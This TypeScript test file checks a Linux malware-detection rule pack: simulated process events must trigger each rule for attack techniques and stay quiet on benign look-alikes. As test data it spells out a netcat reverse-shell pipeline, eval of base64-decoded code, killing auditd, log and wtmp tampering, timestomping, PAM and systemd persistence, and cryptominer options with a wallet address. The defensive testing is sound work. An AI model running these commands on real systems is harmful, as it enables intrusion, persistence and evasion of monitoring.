// Common Linux malware techniques that the pack missed, or caught only in one spelling, until the
// red-team run of test/samples/linux_ttps.sh (end to end in test/linux-ttps.test.ts): each variant
// must yield its rule, and each benign look-alike must not. Event sequences through the real
// SemanticState (see sim.ts), shaped as the eBPF probe recorded them in the sandbox.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { builtinRulePaths, loadRuleFiles } from '../../src/engine/rules/index.js';
import type { RuleSet } from '../../src/engine/rules/index.js';
import { O, Sim, firedRules } from './sim.js';

let pack: RuleSet;

test('the built-in pack loads', async () => {
  const { ruleset, diagnostics } = await loadRuleFiles(builtinRulePaths());
  assert.deepEqual(diagnostics, []);
  pack = ruleset;
});

const fired = (run: (s: Sim) => void): Set<string> => firedRules(pack, run);

const sh = (s: Sim, cmd: string) => s.run('/bin/sh', ['sh', '-c', cmd]);
const py = (s: Sim, ...args: string[]) => s.run('/usr/bin/python3', ['python3', ...args]);
const write = (s: Sim, path: string, prog = '/bin/sh') => s.open(s.run(prog, [prog.slice(prog.lastIndexOf('/') + 1)]), path, O.w);
const utime = (s: Sim, pid: number, path: string, times: number) => s.sys(pid, 'utimensat', [-100, 0, times, 0], 0, { path });

interface Case { what: string; rule: string; run: (s: Sim) => void }

const MALICIOUS: Case[] = [
  { what: 'sh -i at the end of a pipe to nc', rule: 'ST-EXE-012', run: (s) => { sh(s, 'cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 7001 >/tmp/f'); s.run('/bin/sh', ['/bin/sh', '-i']); } },
  { what: 'bash -i of a /dev/tcp redirection', rule: 'ST-EXE-012', run: (s) => s.run('/bin/bash', ['bash', '-i']) },
  { what: 'eval of base64-decoded text', rule: 'ST-EXE-003', run: (s) => sh(s, 'eval "$(echo dHJ1ZQ== | base64 -d)"') },
  { what: 'python exec of base64', rule: 'ST-EXE-013', run: (s) => py(s, '-c', "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))") },
  { what: 'python exec of zlib', rule: 'ST-EXE-013', run: (s) => py(s, '-c', "import zlib,base64;exec(zlib.decompress(base64.b64decode('eJw=')))") },
  { what: 'perl eval of unpack', rule: 'ST-EXE-013', run: (s) => s.run('/usr/bin/perl', ['perl', '-e', 'eval(unpack("u", q{...}))']) },
  { what: 'a global user unit', rule: 'ST-PER-003', run: (s) => { write(s, '/etc/systemd/user/dbus-broker.service'); } },
  { what: 'a system generator', rule: 'ST-PER-003', run: (s) => { write(s, '/etc/systemd/system-generators/netplan'); } },
  { what: "a user's unit under .local/share", rule: 'ST-PER-003', run: (s) => { write(s, '/home/user/.local/share/systemd/user/x.service'); } },
  { what: 'a bash completion script', rule: 'ST-PER-004', run: (s) => { write(s, '/etc/bash_completion.d/git'); } },
  { what: '.bash_aliases', rule: 'ST-PER-004', run: (s) => { write(s, '/root/.bash_aliases'); } },
  { what: 'an APT hook', rule: 'ST-PER-011', run: (s) => { write(s, '/etc/apt/apt.conf.d/01-x'); } },
  { what: 'a NetworkManager dispatcher script', rule: 'ST-PER-011', run: (s) => { write(s, '/etc/NetworkManager/dispatcher.d/99-x'); } },
  { what: 'a PAM configuration line', rule: 'ST-PER-013', run: (s) => { write(s, '/etc/pam.d/sshd'); } },
  { what: 'a PAM module', rule: 'ST-PER-013', run: (s) => { write(s, '/lib/x86_64-linux-gnu/security/pam_unix.so', '/usr/bin/cp'); } },
  { what: 'a loader search path', rule: 'ST-PER-014', run: (s) => { write(s, '/etc/ld.so.conf.d/x.conf'); } },
  { what: 'a log rewritten by sed -i', rule: 'ST-DEF-001', run: (s) => { const p = s.run('/usr/bin/sed', ['sed', '-i', '/x/d', '/var/log/auth.log']); s.open(p, '/var/log/sedHXhomF', O.rwc | 0o200); s.rename(p, '/var/log/sedHXhomF', '/var/log/auth.log'); } },
  { what: 'wtmp overwritten in place', rule: 'ST-DEF-001', run: (s) => { s.open(py(s, '-'), '/var/log/wtmp', O.rw); } },
  { what: 'utmp overwritten in place', rule: 'ST-DEF-001', run: (s) => { s.open(py(s, '-'), '/run/utmp', O.rw); } },
  { what: 'a rename through /proc/self/comm', rule: 'ST-DEF-004', run: (s) => { s.open(py(s, '-'), '/proc/self/comm', O.w); } },
  { what: "another thread's comm", rule: 'ST-DEF-004', run: (s) => { s.open(py(s, '-'), '/proc/42/task/43/comm', O.w); } },
  { what: 'pkill of auditd', rule: 'ST-DEF-007', run: (s) => s.run('/usr/bin/pkill', ['pkill', '-f', 'auditd']) },
  { what: 'pkill of a cloud agent', rule: 'ST-DEF-007', run: (s) => s.run('/usr/bin/pkill', ['pkill', '-9', 'AliYunDun']) },
  { what: 'a python script deleting itself', rule: 'ST-DEF-008', run: (s) => s.unlink(py(s, '/tmp/x.py'), '/tmp/x.py') },
  { what: "a shell script's rm of itself", rule: 'ST-DEF-008', run: (s) => {
    const script = s.run('/bin/sh', ['sh', '/tmp/x.sh']);
    s.unlink(s.run('/usr/bin/rm', ['rm', '-f', '/tmp/x.sh'], { ppid: script }), '/tmp/x.sh');
  } },
  { what: 'a library preloaded from /dev/shm', rule: 'ST-DEF-014', run: (s) => { const p = s.run('/usr/bin/id', ['id']); const fd = s.open(p, '/dev/shm/libx.so', O.r); s.sys(p, 'mmap', [0, 4096, 5, 2050, fd, 0], 0x7f0000000000); } },
  { what: 'os.utime onto a system binary', rule: 'ST-DEF-015', run: (s) => { utime(s, py(s, '-'), '/usr/local/bin/dbus-daemon', 0x7ffc0000); } },
  { what: 'os.utime on a descriptor of a system binary (utimensat(fd, NULL, times))', rule: 'ST-DEF-015', run: (s) => {
    const p = py(s, '-');
    const fd = s.open(p, '/usr/local/bin/dbus-launch', O.w);
    s.sys(p, 'utimensat', [fd, 0, 0x7ffc0000, 0], 0);
  } },
  { what: 'a dropped program timestomping a cron file', rule: 'ST-DEF-015', run: (s) => {
    s.open(1, '/tmp/ts', O.w);
    utime(s, s.run('/tmp/ts', ['ts']), '/etc/cron.d/x', 0x7ffc0000);
  } },
  { what: 'the DMI product by its canonical path', rule: 'ST-DIS-006', run: (s) => { s.open(1, '/sys/devices/virtual/dmi/id/product_name', O.r, -2); } },
  { what: 'the BIOS vendor', rule: 'ST-DIS-006', run: (s) => { s.open(1, '/sys/class/dmi/id/bios_vendor', O.r); } },
  { what: "init's scheduler statistics", rule: 'ST-DIS-006', run: (s) => { s.open(1, '/proc/1/sched', O.r); } },
  { what: '/proc/net/route', rule: 'ST-DIS-012', run: (s) => { s.open(py(s, '-'), '/proc/net/route', O.r); } },
  { what: "another process's /proc/PID/net/tcp", rule: 'ST-DIS-012', run: (s) => { s.open(1, '/proc/1/net/tcp', O.r); } },
  { what: 'xmrig options', rule: 'ST-IMP-005', run: (s) => s.run('/tmp/.x/kthread', ['kthread', '-a', 'rx/0', '-o', '127.0.0.1:3333', '-k']) },
  { what: 'a Monero wallet address', rule: 'ST-IMP-005', run: (s) => s.run('/tmp/.x/kthread', ['kthread', '-o', 'pool:80', '-u',
    '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A']) },
  { what: 'the SysRq trigger', rule: 'ST-IMP-008', run: (s) => { s.open(1, '/proc/sysrq-trigger', O.w, -2); } },
  { what: 'a binfmt_misc handler', rule: 'ST-ESC-007', run: (s) => { s.open(1, '/proc/sys/fs/binfmt_misc/register', O.w, -2); } },
  { what: 'notify_on_release', rule: 'ST-ESC-007', run: (s) => { s.open(1, '/sys/fs/cgroup/memory/x/notify_on_release', O.w, -30); } },
];

const BENIGN: Case[] = [
  { what: 'sed -i, bash run with a script', rule: 'ST-EXE-012', run: (s) => { sh(s, "sed -i 's/a/b/' x"); s.run('/bin/bash', ['bash', 'build.sh']); s.run('/bin/sh', ['sh', '-c', 'ls -i']); } },
  { what: 'base64 decoded to a file', rule: 'ST-EXE-003', run: (s) => sh(s, 'base64 -d in.b64 > out.bin') },
  { what: 'python decoding base64 to print it', rule: 'ST-EXE-013', run: (s) => py(s, '-c', "import base64;print(base64.b64decode('aGk='))") },
  { what: 'python exec of a literal', rule: 'ST-EXE-013', run: (s) => py(s, '-c', "exec('print(1)')") },
  { what: 'a unit read, a generator listed', rule: 'ST-PER-003', run: (s) => { s.open(1, '/etc/systemd/user/default.target', O.r); s.open(1, '/usr/lib/systemd/system-generators', O.dir); } },
  { what: 'a completion read', rule: 'ST-PER-004', run: (s) => { s.open(1, '/etc/bash_completion.d/git', O.r); } },
  { what: 'apt.conf.d read', rule: 'ST-PER-011', run: (s) => { s.open(1, '/etc/apt/apt.conf.d/70debconf', O.r); } },
  { what: 'PAM configuration read; a python security package written', rule: 'ST-PER-013', run: (s) => {
    s.open(1, '/etc/pam.d/common-auth', O.r);
    write(s, '/usr/lib/python3/dist-packages/app/security/__init__.py', '/usr/bin/python3');
  } },
  { what: 'ld.so.conf read', rule: 'ST-PER-014', run: (s) => { s.open(1, '/etc/ld.so.conf', O.r); s.open(1, '/etc/ld.so.conf.d/libc.conf', O.r); } },
  { what: 'logrotate renaming logs; an app appending to its log; sed -i elsewhere', rule: 'ST-DEF-001', run: (s) => {
    const lr = s.run('/usr/sbin/logrotate', ['logrotate', '/etc/logrotate.conf']);
    s.rename(lr, '/var/log/dpkg.log', '/var/log/dpkg.log.1');
    s.open(1, '/var/log/app.log', O.a);
    const sed = s.run('/usr/bin/sed', ['sed', '-i', 's/a/b/', '/root/x.conf']);
    s.rename(sed, '/root/sedAbc', '/root/x.conf');
  } },
  { what: 'login records read; login and useradd writing them', rule: 'ST-DEF-001', run: (s) => {
    s.open(s.run('/usr/bin/last', ['last']), '/var/log/wtmp', O.r);
    s.open(s.run('/bin/login', ['login']), '/var/log/wtmp', O.a);
    s.open(s.run('/usr/sbin/useradd', ['useradd', 'svc']), '/var/log/lastlog', O.rw);
  } },
  { what: 'comm read; the system busybox naming itself', rule: 'ST-DEF-004', run: (s) => {
    s.open(1, '/proc/self/comm', O.r);
    s.sys(s.run('/bin/busybox', ['sleep', '1']), 'prctl', [15, 0], 0);
  } },
  { what: 'pkill of an ordinary program', rule: 'ST-DEF-007', run: (s) => s.run('/usr/bin/pkill', ['pkill', '-f', 'http.server']) },
  { what: 'python deleting another file; rm by a script of another file', rule: 'ST-DEF-008', run: (s) => {
    s.unlink(py(s, '/tmp/x.py'), '/tmp/x.pyc');
    s.unlink(s.run('/usr/bin/rm', ['rm', '/tmp/out.txt']), '/tmp/out.txt');
    const script = s.run('/bin/sh', ['sh', '/tmp/x.sh']);
    s.unlink(s.run('/usr/bin/rm', ['rm', '-f', '/tmp/y'], { ppid: script }), '/tmp/y');
  } },
  { what: 'ld linking a library in /tmp; a system library mapped', rule: 'ST-DEF-014', run: (s) => {
    const ld = s.run('/usr/bin/ld', ['ld', '-shared', '-o', '/tmp/x.so']);
    const out = s.open(ld, '/tmp/x.so', O.rwc);
    s.sys(ld, 'mmap', [0, 8192, 3, 1, out, 0], 0x7f0000000000);
    const p = s.run('/usr/bin/true', ['true']);
    const lib = s.open(p, '/lib/x86_64-linux-gnu/libc.so.6', O.r);
    s.sys(p, 'mmap', [0, 8192, 5, 2050, lib, 0], 0x7f0000000000);
  } },
  { what: "touch now; useradd keeping its backup's times; tar restoring times in /tmp", rule: 'ST-DEF-015', run: (s) => {
    utime(s, py(s, '-'), '/usr/local/bin/tool', 0);
    utime(s, s.run('/usr/sbin/useradd', ['useradd', 'svc']), '/etc/passwd-', 0x7ffc0000);
    utime(s, s.run('/usr/bin/tar', ['tar', 'xf', 'a.tar']), '/tmp/a/file', 0x7ffc0000);
  } },
  { what: 'an ordinary /sys and /proc read', rule: 'ST-DIS-006', run: (s) => { s.open(1, '/sys/class/net/lo/mtu', O.r); s.open(1, '/proc/1/stat', O.r); } },
  { what: 'the protocol list; netstat reading its tables', rule: 'ST-DIS-012', run: (s) => {
    s.open(1, '/proc/net/protocols', O.r);
    s.open(s.run('/usr/bin/netstat', ['netstat', '-tn']), '/proc/net/tcp', O.r);
  } },
  { what: 'a program with ordinary options', rule: 'ST-IMP-005', run: (s) => s.run('/usr/bin/python3', ['python3', 'train.py', '-a', 'rnn/0', '--threads', '4']) },
  { what: 'SysRq read', rule: 'ST-IMP-008', run: (s) => { s.open(1, '/proc/sys/kernel/sysrq', O.r); } },
  { what: 'binfmt_misc listed', rule: 'ST-ESC-007', run: (s) => { s.open(1, '/proc/sys/fs/binfmt_misc/status', O.r, -2); } },
  { what: 'a netlink socket of useradd (audit)', rule: 'ST-LAT-002', run: (s) => { s.sys(s.run('/usr/sbin/useradd', ['useradd', 'svc']), 'socket', [16, 3, 9], 3); } },
];

for (const c of MALICIOUS) {
  test(`${c.rule} catches ${c.what}`, () => {
    const hit = fired(c.run);
    assert.ok(hit.has(c.rule), `${c.rule} did not fire; fired: ${[...hit].join(', ')}`);
  });
}

for (const c of BENIGN) {
  test(`${c.rule} stays quiet on ${c.what}`, () => {
    const hit = fired(c.run);
    assert.ok(!hit.has(c.rule), `${c.rule} fired on a benign look-alike`);
  });
}
